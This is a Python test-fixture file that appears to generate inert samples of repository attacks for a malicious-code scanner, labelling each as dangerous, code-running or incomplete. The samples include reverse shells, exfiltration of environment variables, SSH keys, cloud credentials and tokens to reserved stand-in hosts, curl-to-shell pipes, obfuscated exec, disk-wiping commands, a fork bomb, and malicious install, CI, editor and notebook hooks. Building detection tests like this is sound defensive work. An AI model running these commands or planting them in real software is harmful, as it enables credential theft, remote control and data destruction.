"""Attacks in the code of a repository, written from published classes of them; inert, and never
run: their hosts are reserved names and their commands stand in texts. Each has the name it would
bear and the least that has to be said of it.
"""
# ruff: noqa: E501  # an attack a line reads as a table

import base64
import json
import zlib
from collections.abc import Iterator

DANGEROUS, RUNS, OPEN = "dangerous", "runs-code", "incomplete"
Attack = tuple[str, str, bytes, str]
"""A name for the test, the file's path, its bytes, and the outcome."""
_HIDDEN = base64.b64encode(b"import os; os.system('echo inert')").decode()
_PACKED = base64.b64encode(zlib.compress(b"print('inert')")).decode()
_MODEL = "from transformers import PreTrainedModel\n"


def every() -> Iterator[Attack]:
    """All of them."""
    for name, path, text in (*_PYTHON, *_LOADED):
        yield name, path, text.encode(), DANGEROUS
    for name, path, text, outcome in (*_SHELL, *_PROJECT):
        yield name, path, text.encode(), outcome
    for name, cells, outcome in _CELLS:
        yield name, "demo.ipynb", notebook(*cells), outcome
    yield (
        "a source that hides in UTF-7",
        "a.py",
        b"# coding: utf-7\n+AGUAeABlAGM-('1')  # exec(\n",
        DANGEROUS,
    )
    yield "a null byte in source", "a.py", b"import os\nos.system('x')\0\n", OPEN
    yield (
        "source too deep",
        "modeling_x.py",
        b"import os\nos.system(1)\nx = " + b"(" * 300 + b")" * 300,
        OPEN,
    )
    yield "source that is none", "modeling_x.py", b"import os\nos.system(\n", OPEN


def notebook(*cells: str) -> bytes:
    """A notebook of code cells."""
    made = [
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": cell.splitlines(keepends=True),
        }
        for cell in cells
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


_PYTHON = (
    ("exec in letters of another style", "a.py", f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{_HIDDEN}'))\n"),
    ("the disk is deleted", "a.py", "import shutil\nshutil.rmtree('/')\n"),
    ("a start file is changed and nothing else", "a.py", "open('/root/.bashrc', 'a').write('x')\n"),
    ("a script without an ending", "bin/run", f"#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('{_HIDDEN}'))\n"),
    ("exec of base64", "train.py", f"import base64\nexec(base64.b64decode('{_HIDDEN}'))\n"),
    ("exec of base64 through names", "train.py", f"from base64 import b64decode as d\nblob = '{_HIDDEN}'\ncode = d(blob).decode()\nexec(code)\n"),
    ("exec of zlib", "utils.py", f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{_PACKED}')))\n"),
    ("exec of marshalled code", "a.py", "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))\n"),
    ("exec of rot13", "a.py", "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n"),
    ("exec of hex", "a.py", "exec(bytes.fromhex('696d706f7274206f73').decode())\n"),
    ("exec of joined letters", "a.py", "exec(''.join(map(chr, [112, 114, 105, 110, 116])))\n"),
    ("exec of joined letters in a loop", "a.py", "exec(''.join(chr(x ^ 3) for x in [112, 114, 105]))\n"),
    ("exec of letters turned round", "a.py", "x = ')(tnirp'\nexec(''.join(map(chr, [112, 40, 41])))\n"),
    ("exec in a function that is given it", "a.py", f"import base64\ndef run(c):\n    exec(c)\nrun(base64.b64decode('{_HIDDEN}'))\n"),
    ("exec of what is fetched", "a.py", "import requests\nexec(requests.get('https://host.invalid/x').text)\n"),
    ("exec of what is opened", "a.py", "from urllib.request import urlopen\nsource = urlopen('https://host.invalid/x').read()\nexec(compile(source, 'x', 'exec'))\n"),
    ("a fetched program is started", "a.py", "import urllib.request, os\nurllib.request.urlretrieve('https://host.invalid/x', p := '/tmp/x')\nos.system(p)\n"),
    ("a fetched file is written and run", "a.py", "import requests, subprocess\npath = '/tmp/x'\nwith open(path, 'wb') as f:\n    f.write(requests.get('https://host.invalid/x').content)\nsubprocess.Popen([path])\n"),
    ("fetched objects are unpickled", "a.py", "import pickle, requests\nw = pickle.loads(requests.get('https://host.invalid/w').content)\n"),
    ("a reverse shell", "a.py", "import socket, os, pty\ns = socket.socket()\ns.connect(('host.invalid', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"),
    ("a reverse shell by subprocess", "a.py", "import socket, subprocess\ns = socket.create_connection(('host.invalid', 1))\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)\n"),
    ("commands from a socket", "a.py", "import socket, subprocess\ns = socket.socket()\nwhile True:\n    c = s.recv(1024).decode()\n    subprocess.run(c, shell=True)\n"),
    ("the environment is sent", "a.py", "import os, requests\nrequests.post('https://host.invalid', json=dict(os.environ))\n"),
    ("the environment is sent in an address", "a.py", "import os, urllib.request\nurllib.request.urlopen('https://host.invalid/?' + str(os.environ))\n"),
    ("a key is sent", "a.py", "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://host.invalid', data=key)\n"),
    ("cloud credentials are sent", "a.py", "from pathlib import Path\nimport httpx\nhttpx.post('https://host.invalid', content=(Path.home() / '.aws/credentials').read_text())\n"),
    ("a token is sent", "a.py", "import os, requests\nrequests.get('https://host.invalid/c?t=' + os.environ['HF_TOKEN'])\n"),
    ("a token is sent by a socket", "a.py", "import os, socket\ns = socket.socket()\ns.sendall(open('/root/.huggingface/token').read().encode())\n"),
    ("a beacon", "a.py", "import socket, requests, getpass\nrequests.get('https://host.invalid/' + socket.gethostname() + getpass.getuser())\n"),
    ("a beacon by name server", "a.py", "import socket, os, platform\nsocket.gethostbyname(platform.node() + '.host.invalid')\nimport subprocess\n"),
    ("a drop", "a.py", "import requests, os\nrequests.post('https://webhook.site/0000', data='x')\n"),
    ("a shell command that is piped", "a.py", "import os\nos.system('curl https://host.invalid/x.sh | sh')\n"),
    ("a command cut in two", "a.py", "import os\nc = 'curl https://host.invalid' + '/x | ba' + 'sh'\nos.system(c)\n"),
    ("a hidden import", "a.py", "__import__('os').system('echo inert')\n"),
    ("a hidden import in pieces", "a.py", "m = __import__('o' + 's')\nm.system('echo inert')\n"),
    ("a hidden name", "a.py", "import os\ngetattr(os, 'sys' + 'tem')('echo inert')\n"),
    ("a hidden builtin", "a.py", "getattr(__builtins__, 'ex' + 'ec')('1')\n"),
    ("a builtin by its table", "a.py", "__builtins__.__dict__['ev' + 'al']('1')\n"),
    ("a name by a module's table", "a.py", "import os\nvars(os)['system']('echo inert')\n"),
    ("every class", "a.py", "for c in ().__class__.__base__.__subclasses__():\n    exec('1')\n"),
    ("files are deleted", "a.py", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"),
    ("files are deleted by a shell", "a.py", "import os\nos.system('rm -rf ~/')\n"),
    ("a start file is changed", "a.py", "import os, requests\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\nos.system('x')\n"),
    ("machine code", "a.py", "import ctypes\nc = b'\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51\\x41\\x50\\x52\\x51'\np = ctypes.windll.kernel32.VirtualAlloc(0, 9, 1, 64)\nctypes.windll.kernel32.RtlMoveMemory(p, c, 9)\n"),
)  # fmt: skip
_LOADED = (
    ("a model that imports everything", "modeling_x.py", "from os import *\nsystem('id')\n"),
    ("a model that starts a program", "modeling_x.py", f"{_MODEL}import os\nos.system('id')\nclass M(PreTrainedModel):\n    pass\n"),
    ("a model that starts a program when made", "net.py", f"{_MODEL}import subprocess\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        subprocess.Popen(['calc.exe'])\n"),
    ("a model that fetches and runs", "modeling_x.py", f"{_MODEL}import urllib.request\nclass M(PreTrainedModel):\n    def forward(self, x):\n        return self.go()\n    def go(self):\n        exec(urllib.request.urlopen('https://host.invalid').read())\n"),
    ("an endpoint that opens a shell", "handler.py", "import subprocess\nclass EndpointHandler:\n    def __call__(self, data):\n        return subprocess.run('bash -i >& /dev/tcp/host.invalid/1 0>&1', shell=True)\n"),
    ("an install command", "setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, requests\nclass I(install):\n    def run(self):\n        requests.post('https://host.invalid', data=str(os.environ))\nsetup(cmdclass={'install': I})\n"),
    ("an install that pipes", "setup.py", "import subprocess\nfrom setuptools import setup\nsubprocess.run('wget -qO- https://host.invalid/i | bash', shell=True)\nsetup()\n"),
    ("a start hook", "sitecustomize.py", "import os\nos.system('id')\n"),
    ("a dataset that sends", "my_data.py", "import datasets, os, requests\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        requests.post('https://host.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"),
)  # fmt: skip
_SHELL = (
    ("a script that opens a shell", "install.sh", "#!/bin/bash\nbash -i >& /dev/tcp/host.invalid/4444 0>&1\n", DANGEROUS),
    ("a script with netcat", "run.sh", "nc host.invalid 4444 -e /bin/sh\n", DANGEROUS),
    ("a script with a pipe file", "run.sh", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host.invalid 1 > /tmp/f\n", DANGEROUS),
    ("a script that decodes", "run.sh", f"echo {_HIDDEN} | base64 -d | bash\n", DANGEROUS),
    ("a script that sends the environment", "run.sh", "env | curl -X POST -d @- https://host.invalid\n", DANGEROUS),
    ("a script that sends a key", "run.sh", "curl -F f=@$HOME/.ssh/id_rsa https://host.invalid\n", DANGEROUS),
    ("a script that deletes", "clean.sh", "rm -rf --no-preserve-root /\n", DANGEROUS),
    ("a script that forks", "run.sh", ":(){ :|:& };:\n", DANGEROUS),
    ("a script that mines", "run.sh", "./m -o stratum+tcp://pool.invalid:3333\n", DANGEROUS),
    ("a build over a plain connection", "Dockerfile", "FROM python\nRUN curl http://host.invalid/x | sh\n", DANGEROUS),
    ("a build from a bare number", "Dockerfile", "FROM python\nRUN wget -qO- https://203.0.113.7/x \\\n    | bash\n", DANGEROUS),
    ("a build from a host", "Dockerfile", "FROM python\nRUN curl -fsSL https://host.invalid/x | sh\n", RUNS),
    ("a rule of make", "Makefile", "all:\n\tcurl http://host.invalid/x | bash\n", DANGEROUS),
    ("a batch file", "run.bat", "powershell -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAA==\n", DANGEROUS),
    ("PowerShell", "run.ps1", "iex (New-Object Net.WebClient).DownloadString('http://host.invalid/x')\n", DANGEROUS),
    ("a hook of Git", ".githooks/post-checkout", "#!/bin/sh\ncurl http://host.invalid/x | sh\n", DANGEROUS),
)  # fmt: skip
_TARGET = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n"
_PROJECT = (
    ("a program under another name", "train.py", "import os as o\no.system('id')\n", RUNS),
    ("code of another repository by hub", "train.py", "import torch\ntorch.hub.load('a/b', 'm')\n", RUNS),
    ("a workflow that trusts strangers", ".github/workflows/ci.yml", _TARGET, RUNS),
    ("a workflow that strangers write", ".github/workflows/ci.yml", "on: issues\njobs:\n  a:\n    steps:\n      - run: |\n          echo ${{ github.event.issue.title }}\n", RUNS),
    ("a workflow that sends", ".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: printenv | curl -d @- https://host.invalid\n", DANGEROUS),
    ("a package that did harm", "requirements.txt", "numpy==2.4\ntorchtriton==3.0\n", DANGEROUS),
    ("a release that was taken over", "requirements.txt", "ultralytics==8.3.41\n", DANGEROUS),
    ("a package from a bare number", "requirements.txt", "https://203.0.113.7/x-1.0.tar.gz\n", DANGEROUS),
    ("an index at a bare number", "requirements.txt", "--index-url http://203.0.113.7/simple\n--trusted-host 203.0.113.7\n", DANGEROUS),
    ("another index", "requirements.txt", "--extra-index-url https://host.invalid/simple\nours\n", RUNS),
    ("a package by address", "requirements.txt", "git+https://host.invalid/a/b.git\n", RUNS),
    ("an environment with an address", "environment.yml", "dependencies:\n  - pip:\n    - git+https://host.invalid/a/b.git\n", RUNS),
    ("a build backend in the tree", "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'b'\nbackend-path = ['.']\n", RUNS),
    ("a script of npm", "package.json", '{"scripts": {"postinstall": "curl https://host.invalid/x | sh"}}', DANGEROUS),
    ("an honest looking script of npm", "package.json", '{"scripts": {"postinstall": "node x.js"}}', RUNS),
    ("a task of an editor", ".vscode/tasks.json", '{"tasks": [{"command": "curl https://host.invalid | sh", "runOptions": {"runOn": "folderOpen"}}]}', DANGEROUS),
    ("code of another repository", "config.json", '{"auto_map": {"AutoModel": "a/b--modeling_x.M"}}', RUNS),
    ("code of its own", "config.json", '{"auto_map": {"AutoModel": "modeling_x.M"}}', RUNS),
    ("a pipeline of its own", "model_index.json", '{"_class_name": ["pipeline", "P"]}', RUNS),
)  # fmt: skip
_CELLS = (
    ("a cell that pipes", ["!curl http://host.invalid/x.sh | sh"], DANGEROUS),
    ("a cell of a shell", ["%%bash\nbash -i >& /dev/tcp/host.invalid/1 0>&1\n"], DANGEROUS),
    ("a cell that runs an address", ["%run https://host.invalid/x.py"], RUNS),
    ("a cell that executes", [f"import base64\nexec(base64.b64decode('{_HIDDEN}'))"], DANGEROUS),
    ("cells that execute together", ["import base64", f"c = '{_HIDDEN}'", "%time exec(base64.b64decode(c))", "exec(base64.b64decode(c))"], DANGEROUS),
    ("a cell that installs", ["!pip install x"], RUNS),
    ("a cell that sends", ["import os, requests\nrequests.post('https://host.invalid', json=dict(os.environ))"], DANGEROUS),
)  # fmt: skip
